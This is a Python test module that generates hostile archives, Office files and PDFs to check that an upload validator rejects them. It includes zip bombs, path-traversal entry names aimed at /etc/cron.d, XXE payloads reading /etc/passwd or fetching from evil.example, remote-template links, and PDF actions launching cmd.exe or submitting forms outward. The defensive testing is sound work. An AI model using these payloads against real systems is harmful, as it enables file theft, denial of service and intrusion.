"""Hostile documents and archives."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator
from functools import partial

from tests.features.files import samples
from tests.features.files.samples import DOCX, PPTX, XLSX, object_stream, office, pdf, relation
from tests.hostile.made import (
    ACTIVE,
    DAMAGED,
    ENCRYPTED,
    HTML,
    MISMATCH,
    NOT_ALLOWED,
    TOO_MUCH,
    Hostile,
)

LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha">%s]><a>&j;</a>' % b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
)
EXTERNAL = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
PARAMETER = b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>'
QUADRATIC = b'<!DOCTYPE a [<!ENTITY x "%s">]><a>%s</a>' % (b"x" * 50_000, b"&x;" * 50_000)

BOTH = samples.content_types(DOCX).replace(
    "</Types>", f'<Override PartName="/xl/w.xml" ContentType="{XLSX}.main+xml"/></Types>'
)


def archive(*members: tuple[str, bytes], comment: bytes = b"") -> bytes:
    """A zip that is no document."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file:
        for name, data in members:
            file.writestr(name, data)
        file.comment = comment
    return made.getvalue()


def nested(levels: int) -> bytes:
    """Archives in archives, a large file in the innermost."""
    data = archive(("a.txt", bytes(10_000_000)))
    for _ in range(levels):
        data = archive(*((f"{n}.zip", data) for n in range(10)))
    return data


def with_entry(name: str, mode: int = 0) -> bytes:
    """A document with one more member, under that very name and mode."""
    made = io.BytesIO(office(DOCX))
    with zipfile.ZipFile(made, "a") as file:
        info = zipfile.ZipInfo("placeholder" if "\0" in name else name)
        info.external_attr = mode << 16
        file.writestr(info, "/etc/passwd")
    return made.getvalue().replace(b"placeholder", name.encode())


def many_members(count: int) -> bytes:
    return office(DOCX, {f"word/{n}.xml": b"<a/>" for n in range(count)})


def lying(declared: int) -> bytes:
    """A document one of whose members says it is smaller than it is."""
    data = bytearray(office(DOCX, {"word/media/image1.bin": bytes(50_000_000)}))
    for place, offset in ((data.rindex(b"PK\x01\x02"), 24), (data.rindex(b"PK\x03\x04"), 22)):
        data[place + offset : place + offset + 4] = struct.pack("<I", declared)
    return bytes(data)


def overlapping() -> bytes:
    """Two hundred entries, one and the same content (the better zip bomb)."""
    data = office(DOCX, {"word/media/image1.bin": bytes(4_000_000)})
    end = data.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", data[end + 16 : end + 20])[0]
    directory = data[start:end]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"image1", b"im%04d" % n) for n in range(200))
    size, count = len(directory) + len(copies), 4 + 200
    record = struct.pack("<4s4HIIH", b"PK\x05\x06", 0, 0, count, count, size, start, 0)
    return data[:start] + directory + copies + record


def encrypted() -> bytes:
    """A document whose first member says that it needs a password."""
    data = bytearray(office(DOCX))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def deep_xml() -> bytes:
    return b"<a>" * 300_000


def hostile() -> Iterator[Hostile]:
    """All of them."""
    yield from _archives()
    yield from _office()
    yield from _pdf()


def _archives() -> Iterator[Hostile]:
    bomb = bytes(300_000_000)
    yield Hostile("zip", "a.zip", partial(archive, ("a.txt", b"a")), NOT_ALLOWED, "application/zip")
    yield Hostile("zip bomb", "a.zip", lambda: archive(("a.txt", bomb)), TOO_MUCH)
    yield Hostile("archives in archives", "a.zip", lambda: nested(3), NOT_ALLOWED)
    yield Hostile("zip called docx", "a.docx", partial(archive, ("a.txt", b"a")), NOT_ALLOWED, DOCX)
    yield Hostile(
        "page in a zip called docx", "a.docx", partial(archive, ("a.html", HTML)), NOT_ALLOWED
    )
    yield Hostile(
        "android program", "a.apk", partial(archive, ("classes.dex", b"dex")), NOT_ALLOWED
    )
    yield Hostile(
        "java program", "a.jar", partial(archive, ("META-INF/MANIFEST.MF", b"")), NOT_ALLOWED
    )
    yield Hostile("empty zip", "a.docx", lambda: b"PK\x05\x06" + bytes(18), NOT_ALLOWED)
    yield Hostile("7z", "a.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(40), NOT_ALLOWED)
    yield Hostile("rar", "a.rar", lambda: b"Rar!\x1a\x07\x01\0" + bytes(40), NOT_ALLOWED)
    yield Hostile("gzip", "a.gz", lambda: b"\x1f\x8b\x08" + bytes(40), NOT_ALLOWED)
    yield Hostile("windows program", "a.exe", lambda: b"MZ" + bytes(400), NOT_ALLOWED)
    yield Hostile(
        "program called pdf",
        "a.pdf",
        lambda: b"\x7fELF" + bytes(400),
        NOT_ALLOWED,
        "application/pdf",
    )
    yield Hostile(
        "old word document",
        "a.doc",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        NOT_ALLOWED,
    )


def _office() -> Iterator[Hostile]:
    image = "word/media/image1.bin"
    yield Hostile(
        "docx bomb", "a.docx", lambda: office(DOCX, {image: bytes(300_000_000)}), TOO_MUCH
    )
    yield Hostile(
        "docx that shrinks a thousandfold",
        "a.docx",
        lambda: office(DOCX, {image: bytes(60_000_000)}),
        TOO_MUCH,
    )
    yield Hostile("docx with a size that lies", "a.docx", lambda: lying(1_000), DAMAGED)
    yield Hostile("docx with overlapping members", "a.docx", overlapping, TOO_MUCH)
    yield Hostile("docx of 5,000 members", "a.docx", lambda: many_members(5_000), TOO_MUCH)
    yield Hostile("docx with a way up", "a.docx", lambda: with_entry("../../etc/cron.d/x"), DAMAGED)
    yield Hostile(
        "docx with an absolute path", "a.docx", lambda: with_entry("/etc/cron.d/x"), DAMAGED
    )
    yield Hostile("docx with a drive", "a.docx", lambda: with_entry("C:\\Windows\\x"), DAMAGED)
    yield Hostile(
        "docx with a symbolic link", "a.docx", lambda: with_entry("word/link", 0o120777), DAMAGED
    )
    yield Hostile(
        "docx with a device", "a.docx", lambda: with_entry("word/device", 0o060666), DAMAGED
    )
    yield Hostile(
        "docx with NUL in a name", "a.docx", lambda: with_entry("word/a\0.xml.exe"), DAMAGED
    )
    yield Hostile(
        "docx with the same name twice", "a.docx", lambda: with_entry("WORD/document.xml"), DAMAGED
    )
    yield Hostile(
        "docx with a name of 60,000 signs", "a.docx", lambda: with_entry("a" * 60_000), DAMAGED
    )
    yield Hostile(
        "docx behind a page", "a.docx", lambda: b"PK\x03\x04" + HTML + office(DOCX), DAMAGED
    )
    yield Hostile("docx before a page", "a.docx", lambda: office(DOCX) + HTML, DAMAGED)
    yield Hostile("docx cut in half", "a.docx", lambda: office(DOCX)[:300], DAMAGED)
    yield Hostile("docx encrypted", "a.docx", encrypted, ENCRYPTED)
    yield Hostile(
        "docx in docx in docx",
        "a.docx",
        lambda: office(
            DOCX, {"word/embeddings/1.docx": office(DOCX, {"word/embeddings/2.docx": office(DOCX)})}
        ),
        TOO_MUCH,
    )
    yield Hostile(
        "zip beside the text of a docx",
        "a.docx",
        lambda: office(DOCX, {"word/media/a.png": nested(0)}),
        TOO_MUCH,
    )
    yield Hostile("docx called xlsx", "a.xlsx", lambda: office(DOCX), MISMATCH, XLSX)
    yield Hostile("docx that is also xlsx", "a.docx", lambda: office(DOCX, types=BOTH), NOT_ALLOWED)
    yield Hostile("docx with laughs", "a.docx", lambda: office(DOCX, main=LAUGHS), ACTIVE)
    yield Hostile(
        "xlsx with laughs", "a.xlsx", lambda: office(XLSX, {"xl/sharedStrings.xml": LAUGHS}), ACTIVE
    )
    yield Hostile(
        "docx with quadratic growth", "a.docx", lambda: office(DOCX, main=QUADRATIC), ACTIVE
    )
    yield Hostile("docx that reads a file", "a.docx", lambda: office(DOCX, main=EXTERNAL), ACTIVE)
    yield Hostile("xlsx that reads a file", "a.xlsx", lambda: office(XLSX, main=EXTERNAL), ACTIVE)
    yield Hostile(
        "pptx that fetches a definition", "a.pptx", lambda: office(PPTX, main=PARAMETER), ACTIVE
    )
    yield Hostile(
        "entities where types are declared",
        "a.docx",
        lambda: office(DOCX, types=EXTERNAL.decode()),
        ACTIVE,
    )
    yield Hostile(
        "entities in the links",
        "a.docx",
        lambda: office(DOCX, {"word/_rels/document.xml.rels": EXTERNAL}),
        ACTIVE,
    )
    yield Hostile(
        "docx of 300,000 levels", "a.docx", lambda: office(DOCX, main=deep_xml()), DAMAGED
    )
    yield Hostile("docx of broken XML", "a.docx", lambda: office(DOCX, main=b"<a><b></a>"), DAMAGED)
    yield Hostile(
        "docx with macros", "a.docx", lambda: office(DOCX, {"word/vbaProject.bin": b"VBA"}), ACTIVE
    )
    yield Hostile(
        "docm called docx",
        "a.docx",
        lambda: office(
            DOCX,
            types=samples.content_types(
                DOCX, "application/vnd.ms-word.document.macroEnabled.main+xml"
            ),
        ),
        ACTIVE,
    )
    yield Hostile(
        "docx with ActiveX",
        "a.docx",
        lambda: office(DOCX, {"word/activeX/activeX1.xml": b"<a/>"}),
        ACTIVE,
    )
    yield Hostile(
        "docx with a program",
        "a.docx",
        lambda: office(DOCX, {"word/embeddings/a.bin": b"MZ" + bytes(99)}),
        ACTIVE,
    )
    yield Hostile(
        "docx with a script", "a.docx", lambda: office(DOCX, {"word/embeddings/a.js": b"x"}), ACTIVE
    )
    yield Hostile(
        "docx with a packaged file",
        "a.docx",
        lambda: office(
            DOCX,
            {"word/embeddings/oleObject1.bin": b"\xd0\xcf" + "\1Ole10Native".encode("utf-16-le")},
        ),
        ACTIVE,
    )
    yield Hostile(
        "docx with a template from elsewhere",
        "a.docx",
        lambda: office(
            DOCX,
            {
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", "http://evil.example/a.dotm", "External"
                )
            },
        ),
        ACTIVE,
    )
    yield Hostile(
        "docx with a share as template",
        "a.docx",
        lambda: office(
            DOCX,
            {
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", r"\\evil.example\a", "External"
                )
            },
        ),
        ACTIVE,
    )


def _pdf() -> Iterator[Hostile]:
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    yield Hostile("pdf with a script", "a.pdf", lambda: pdf(script), ACTIVE)
    yield Hostile(
        "pdf with a script, spelt otherwise",
        "a.pdf",
        lambda: pdf(b"<</S/J#61va#53cript/JS(x)>>"),
        ACTIVE,
    )
    yield Hostile(
        "pdf with a script, compressed",
        "a.pdf",
        lambda: pdf(object_stream(b"9 0 " + script)),
        ACTIVE,
    )
    yield Hostile(
        "pdf that starts a program", "a.pdf", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), ACTIVE
    )
    yield Hostile(
        "pdf that sends a form",
        "a.pdf",
        lambda: pdf(b"<</S/SubmitForm/F(http://evil.example)>>"),
        ACTIVE,
    )
    yield Hostile(
        "pdf with a file",
        "a.pdf",
        lambda: pdf(b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream"),
        ACTIVE,
    )
    yield Hostile("pdf with a form of XML", "a.pdf", lambda: pdf(b"<</XFA[(x)5 0 R]>>"), ACTIVE)
    yield Hostile(
        "pdf with a film that acts",
        "a.pdf",
        lambda: pdf(b"<</Type/Annot/Subtype/RichMedia>>"),
        ACTIVE,
    )
    yield Hostile("pdf encrypted", "a.pdf", lambda: pdf(trailer=b"/Encrypt 4 0 R"), ENCRYPTED)
    yield Hostile(
        "pdf whose structure grows",
        "a.pdf",
        lambda: pdf(object_stream(bytes(200_000_000))),
        TOO_MUCH,
    )
    yield Hostile(
        "pdf with a structure in another packing",
        "a.pdf",
        lambda: pdf(object_stream(script, b"/X/LZWDecode")),
        ACTIVE,
    )
    yield Hostile(
        "pdf with a broken structure",
        "a.pdf",
        lambda: pdf(b"<</Type/ObjStm/First 4/Filter/FlateDecode>>\nstream\nnonsense\nendstream"),
        DAMAGED,
    )
    yield Hostile(
        "pdf of 200,000 structures",
        "a.pdf",
        lambda: pdf(*[b"</First/Fl>stream\nx"] * 200_000),
        DAMAGED,
    )
    yield Hostile("pdf cut in half", "a.pdf", lambda: pdf()[:200], DAMAGED)
    yield Hostile("page called pdf", "a.pdf", lambda: b"%PDF-1.7\n" + HTML, DAMAGED)
    yield Hostile("pdf behind a page", "a.pdf", lambda: HTML + pdf(), NOT_ALLOWED)
    yield Hostile("pdf before a page", "a.pdf", lambda: pdf(tail=HTML), DAMAGED)
    yield Hostile(
        "pdf and zip at once",
        "a.pdf",
        lambda: pdf(b"(" + archive(("a.html", HTML)) + b")"),
        MISMATCH,
    )
    yield Hostile("pdf called docx", "a.docx", pdf, MISMATCH)
